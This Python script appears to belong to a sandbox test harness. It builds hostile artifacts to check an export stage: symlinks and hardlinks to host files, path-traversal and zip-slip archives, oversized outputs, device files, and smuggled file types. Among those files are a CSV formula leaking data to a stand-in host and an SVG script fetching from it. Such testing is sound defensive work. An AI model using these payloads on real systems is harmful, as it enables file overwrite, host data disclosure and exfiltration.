"""Builds one hostile artifact for the export stage: links to host files, traversing archives,
too many or too large files, smuggled types, special files. Which one comes from the arguments."""
import io
import os
import stat
import tarfile
import zipfile

import sandcheck_payload as sc

args = sc.start()
mode = args["mode"]


def tar_with(entries):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for info, data in entries:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    with open("result.tar", "wb") as fh:
        fh.write(buf.getvalue())


def file_info(name, data):
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info, data


if mode == "symlink-host" and args.get("hop"):
    # Through a hop named by this execution's challenge: a download API that lstats the link reports that name,
    # which no API that never looked could.
    hop = "sc-link-%s" % sc.token("link")
    os.symlink(args["decoyFile"], hop)
    os.symlink(hop, "result.txt")
elif mode == "symlink-host":
    os.symlink(args["decoyFile"], "result.txt")
elif mode == "symlink-dir":
    os.symlink(args["decoyDir"], "out")
elif mode == "hardlink":
    try:
        os.link(args["decoyFile"], "result.txt")
        print("hardlinked the host file")
    except OSError as e:
        print("host file not linkable (%s); linking a file of our own" % e.strerror)
        with open("own.txt", "w") as fh:
            fh.write("own data\n")
        os.link("own.txt", "result.txt")
elif mode == "archive-dotdot":
    tar_with([file_info("../../evil-dotdot.txt", b"written through ../..\n")])
elif mode == "archive-absolute":
    tar_with([file_info("/tmp/evil-absolute-%s.txt" % args["nonce"], b"absolute entry\n")])
elif mode == "archive-symlink-then-write":
    link = tarfile.TarInfo("link")
    link.type = tarfile.SYMTYPE
    link.linkname = "../.."
    tar_with([(link, None), file_info("link/evil-through-link.txt", b"written through a link entry\n")])
elif mode == "zip-slip":
    with zipfile.ZipFile("result.zip", "w") as z:
        z.writestr(zipfile.ZipInfo("../../evil-zipslip.txt"), b"zip slip\n")
elif mode == "many-small":
    os.makedirs("out", exist_ok=True)
    for i in range(int(args["files"])):
        with open("out/part-%02d.bin" % i, "wb") as fh:
            fh.write(b"\x00" * int(args["bytesEach"]))
elif mode == "huge-file":
    with open("result.bin", "wb") as fh:
        fh.write(b"\x00" * int(args["bytes"]))
elif mode == "type-smuggling":
    with open("/bin/true", "rb") as src, open("report.csv", "wb") as dst:
        dst.write(src.read())
    with open("data.csv", "w") as fh:
        fh.write('name,link\nalice,=HYPERLINK("http://203.0.113.10/?leak="&A2,"click")\n')
    with zipfile.ZipFile("book.xlsx", "w") as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 not really a macro")
    with open("chart.svg", "w") as fh:
        fh.write('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://203.0.113.10/")</script></svg>')
elif mode == "special":
    os.mkfifo("pipe.txt")
    try:
        os.mknod("device.txt", stat.S_IFCHR | 0o600, os.makedev(1, 3))
        print("made a character device")
    except OSError as e:
        print("mknod refused (%s); a FIFO only" % e.strerror)
else:
    raise SystemExit("unknown mode %s" % mode)
print("built %s" % mode)
sc.done(args)
